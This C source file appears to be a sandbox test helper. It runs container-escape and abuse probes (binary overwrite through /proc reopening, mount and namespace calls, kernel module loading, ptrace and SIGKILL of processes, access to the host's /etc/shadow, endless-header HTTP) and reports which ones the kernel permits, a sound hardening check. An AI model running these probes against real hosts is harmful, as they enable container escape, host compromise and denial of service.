// Attacks that a box makes, one a mode. Each says in lines what came of it; a line
// "name ok" is an attack that the kernel has let through.

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void say(const char *what, long r)
{
	printf("%s %s\n", what, r >= 0 ? "ok" : strerrorname_np(errno));
	fflush(stdout);
}

// In a child, as what is let through would change what the others may.
#define TRY_APART(name, call) do { pid_t p_ = fork(); if (!p_) { TRY(name, call); _exit(0); } waitpid(p_, 0, 0); } while (0)

#define TRY(name, call) do { errno = 0; long r_ = (long)(call); say(name, r_); } while (0)

// overwrite PATH: by every way to a descriptor that writes.
static void overwrite(const char *path)
{
	char link[64];
	int fd = open(path, O_WRONLY);
	say("write", fd);
	if (fd >= 0 && write(fd, "#!/bin/owned\n", 13) == 13)
		puts("overwritten");
	// As soon as it is not executed any more.
	int p = open(path, O_PATH);
	say("path", p);
	snprintf(link, sizeof link, "/proc/self/fd/%d", p);
	for (int i = 0; i < 1000; i++) {
		fd = open(link, O_WRONLY | O_TRUNC);
		if (fd >= 0 || errno != ETXTBSY)
			break;
	}
	say("reopen", fd);
	if (fd >= 0 && write(fd, "#!/bin/owned\n", 13) == 13)
		puts("overwritten");
	TRY("chmod", chmod(path, 0777));
}

// fds: what is open besides the directory that it reads this from.
static void fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;
	char to[256];
	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d))
			continue;
		ssize_t n = readlinkat(dirfd(d), e->d_name, to, sizeof to - 1);
		printf("fd %s %.*s\n", e->d_name, (int)(n < 0 ? 0 : n), to);
	}
}

static int child(void *arg) { (void)arg; return 0; }

#if defined(__x86_64__)
// i386 makes a system call by its 32-bit number and entry.
static long i386(long nr, long a, long b, long c)
{
	long r;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
	if (r < 0 && r > -4096) {
		errno = -r;
		return -1;
	}
	return r;
}
#endif

// calls: what the kernel is asked for that no box needs.
static void calls(void)
{
	static char stack[65536];
	struct perf_event_attr perf = {.type = PERF_TYPE_SOFTWARE, .size = sizeof perf, .config = PERF_COUNT_SW_CPU_CLOCK};
	char params[256] = {0}, attr[128] = {0};
	struct { unsigned long long flags, rest[10]; } args = {.flags = CLONE_NEWUSER};

	// In the working directory, which is the host's where the attack is to work.
	mkdir("m", 0777);
	TRY("mount", mount("none", "m", "tmpfs", 0, ""));
	TRY("bind", mount("/", "m", 0, MS_BIND | MS_REC, 0));
	TRY("remount", mount("none", "m", 0, MS_REMOUNT | MS_BIND, 0));
	TRY("umount", umount2("m", MNT_DETACH));
	TRY("pivot_root", syscall(SYS_pivot_root, "/", "m"));
	TRY("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
	TRY("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
	TRY("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, attr, 32));
	TRY("clone-user", clone(child, stack + sizeof stack, CLONE_NEWUSER | SIGCHLD, 0));
	TRY("clone-mount", clone(child, stack + sizeof stack, CLONE_NEWNS | SIGCHLD, 0));
	errno = 0;
	long pid = syscall(SYS_clone3, &args, sizeof args);
	if (pid == 0)
		_exit(0);
	say("clone3-user", pid);
	TRY_APART("setns", setns(open("/proc/1/ns/user", O_RDONLY), 0));
	TRY("keyctl", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -4 /* user */, 1));
	TRY("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -4));
	TRY("bpf", syscall(SYS_bpf, 0 /* MAP_CREATE */, attr, sizeof attr));
	TRY("perf_event_open", syscall(SYS_perf_event_open, &perf, 0, -1, -1, 0));
	TRY("userfaultfd", syscall(SYS_userfaultfd, 0));
	TRY("io_uring_setup", syscall(SYS_io_uring_setup, 4, params));
	TRY("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, attr, 0));
	TRY("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", attr, 0, 0));
	TRY("syslog", syscall(SYS_syslog, 3, params, sizeof params));
	TRY("init_module", syscall(SYS_init_module, params, sizeof params, ""));
	TRY("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
	TRY("acct", acct("acct"));
	TRY("swapon", syscall(SYS_swapon, "m", 0));
	TRY("settime", syscall(SYS_clock_settime, 0, params));
	TRY("mknod", mknod("node", S_IFBLK | 0600, 0x700));
	TRY("packet-socket", socket(AF_PACKET, SOCK_RAW, 0));
	TRY("raw-socket", socket(AF_INET, SOCK_RAW, 1));
	TRY("vsock", socket(AF_VSOCK, SOCK_STREAM, 0)); // the way to the host of a virtual machine
#if defined(__x86_64__)
	TRY("iopl", syscall(SYS_iopl, 3));
	TRY("i386-keyctl", i386(288, 0, -4, 1));
	TRY_APART("i386-unshare", i386(310, CLONE_NEWUSER, 0, 0));
#endif
	TRY_APART("unshare-user", unshare(CLONE_NEWUSER));
	TRY_APART("unshare-mount", unshare(CLONE_NEWNS));
	TRY_APART("chroot", chroot("m"));
}

// limits: more than it was given.
static void limits(void)
{
	struct rlimit more = {4096, 4096};
	struct sched_param rt = {.sched_priority = 1};
	TRY("nofile", setrlimit(RLIMIT_NOFILE, &more));
	TRY("nice", setpriority(PRIO_PROCESS, 0, -5));
	TRY("realtime", sched_setscheduler(0, SCHED_FIFO, &rt));
	int fd = open("/proc/self/oom_score_adj", O_WRONLY);
	TRY("oom_score_adj", write(fd, "-900", 4));
	int flags = 0;
	fd = open("/", O_RDONLY);
	TRY("get-flags", ioctl(fd, _IOR('f', 1, long), &flags));
	fd = open("immutable", O_CREAT | O_RDWR, 0600);
	flags = 0x10; // FS_IMMUTABLE_FL
	TRY("immutable", ioctl(fd, _IOW('f', 2, long), &flags));
}

// hunt: signals and traces all processes up to a number; who waits for it is to live.
static void hunt(int last)
{
	int seen = 0, traced = 0;
	for (int pid = 1; pid <= last; pid++) {
		if (pid == getpid())
			continue;
		if (kill(pid, pid == getppid() ? 0 : SIGKILL) == 0 || errno != ESRCH)
			seen++;
		if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
			traced++;
	}
	printf("seen %d traced %d\n", seen, traced);
}

// watch SECONDS: what can be had of a process that joins the box from outside, before
// it is what it was sent to be.
static void watch(int seconds)
{
	char path[300], to[300];
	int had = 0, last = getpid();
	for (time_t end = time(0) + seconds; time(0) < end;) {
		for (int pid = last + 1; pid < last + 64; pid++) {
			snprintf(path, sizeof path, "/proc/%d", pid);
			if (access(path, F_OK))
				continue;
			last = pid;
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
				had++;
			for (int i = 0; i < 200; i++) {
				snprintf(path, sizeof path, "/proc/%d/exe", pid);
				ssize_t n = readlink(path, to, sizeof to - 1);
				if (n > 0 && (to[n] = 0, strncmp(to, "/bin/", 5))) {
					printf("exe %s\n", to);
					int fd = open(path, O_WRONLY);
					if (fd >= 0 && write(fd, "x", 1) == 1)
						printf("overwritten %s\n", to);
				}
				for (int f = 3; f < 32; f++) {
					snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, f);
					n = readlink(path, to, sizeof to - 1);
					if (n <= 0)
						continue;
					to[n] = 0;
					int fd = open(path, O_RDONLY | O_NONBLOCK | O_DIRECTORY);
					printf("descriptor %d %s %s\n", f, to, fd >= 0 ? "opened" : strerrorname_np(errno));
					if (fd >= 0)
						close(fd);
				}
				snprintf(path, sizeof path, "/proc/%d/root/etc/shadow", pid);
				if (access(path, F_OK) == 0)
					puts("root of the host");
			}
		}
	}
	printf("watched, traced %d up to pid %d\n", had, last);
}

// freeze SECONDS: stops, and so holds up, who joins the box.
static void freeze(int seconds)
{
	int stopped = 0, last = getpid();
	for (time_t end = time(0) + seconds; time(0) < end;)
		for (int pid = last + 1; pid < last + 64; pid++)
			if (kill(pid, SIGSTOP) == 0) {
				stopped++;
				last = pid;
			}
	printf("stopped %d\n", stopped);
}

// connect to a socket: abstract NAME or a path.
static void dial(const char *name)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	strncpy(a.sun_path, name, sizeof a.sun_path - 1);
	socklen_t len = sizeof a;
	if (name[0] == '@') {
		a.sun_path[0] = 0;
		len = offsetof(struct sockaddr_un, sun_path) + strlen(name);
	}
	int kinds[] = {SOCK_STREAM, SOCK_SEQPACKET};
	for (int i = 0; i < 2; i++)
		TRY("connect", connect(socket(AF_UNIX, kinds[i], 0), (struct sockaddr *)&a, len));
}

// pipes: all that the end of the log's pipe which a box has lets it do to the other.
static void pipes(void)
{
	char buf[4096];
	int other = open("/proc/self/fd/1", O_RDWR | O_NONBLOCK);
	fcntl(1, F_SETPIPE_SZ, 4096);
	fcntl(1, F_SETFL, O_NONBLOCK | O_DIRECT | O_ASYNC | O_APPEND);
	fcntl(0, F_SETFL, O_NONBLOCK | O_APPEND);
	for (int i = 0; i < 2000; i++) {
		if (write(1, "x", 1) < 0 && errno != EAGAIN)
			_exit(2);
		if (read(other, buf, sizeof buf) < 0 && errno != EAGAIN)
			_exit(3);
		fcntl(1, F_SETPIPE_SZ, i % 2 ? 4096 : 65536);
	}
	fcntl(1, F_SETFL, 0);
	if (write(1, "\npiped\n", 7) != 7)
		_exit(4);
}

// deep N: directories, each in the one before.
static void deep(int n)
{
	for (int i = 0; i < n; i++)
		if (mkdir("d", 0777) || chdir("d")) {
			perror("deep");
			_exit(1);
		}
}

// inotify: as many instances as it gets.
static void instances(void)
{
	struct rlimit r;
	int n = 0;
	getrlimit(RLIMIT_NOFILE, &r);
	r.rlim_cur = r.rlim_max;
	setrlimit(RLIMIT_NOFILE, &r);
	while (inotify_init() >= 0)
		n++;
	printf("instances %d %s\n", n, strerrorname_np(errno));
	fflush(stdout);
	pause();
}

// serve PORT MODE: an HTTP server as no client wants it.
static void serve(int port, const char *mode)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 128)) {
		perror("serve");
		_exit(1);
	}
	signal(SIGPIPE, SIG_IGN);
	puts("serves");
	fflush(stdout);
	for (;;) {
		int c = accept(s, 0, 0);
		if (!strcmp(mode, "silent"))
			continue;
		char head[] = "HTTP/1.1 200 OK\r\n", line[] = "X-Endless: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";
		if (write(c, head, strlen(head)) < 0)
			continue;
		if (!strcmp(mode, "body") && write(c, "\r\n", 2) < 0)
			continue;
		while (write(c, line, strlen(line)) > 0)
			;
		close(c);
	}
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "", *arg = argc > 2 ? argv[2] : "";
	if (!strcmp(mode, "overwrite"))
		overwrite(arg);
	else if (!strcmp(mode, "fds"))
		fds();
	else if (!strcmp(mode, "calls"))
		calls();
	else if (!strcmp(mode, "limits"))
		limits();
	else if (!strcmp(mode, "hunt"))
		hunt(atoi(arg));
	else if (!strcmp(mode, "watch"))
		watch(atoi(arg));
	else if (!strcmp(mode, "freeze"))
		freeze(atoi(arg));
	else if (!strcmp(mode, "dial"))
		dial(arg);
	else if (!strcmp(mode, "pipes"))
		pipes();
	else if (!strcmp(mode, "deep"))
		deep(atoi(arg));
	else if (!strcmp(mode, "inotify"))
		instances();
	else if (!strcmp(mode, "serve"))
		serve(atoi(arg), argv[3]);
	else if (!strcmp(mode, "euid"))
		printf("euid %d\n", geteuid());
	else if (!strcmp(mode, "hold")) {
		puts("held");
		fflush(stdout);
		pause();
	}
	else
		return 64;
	return 0;
}
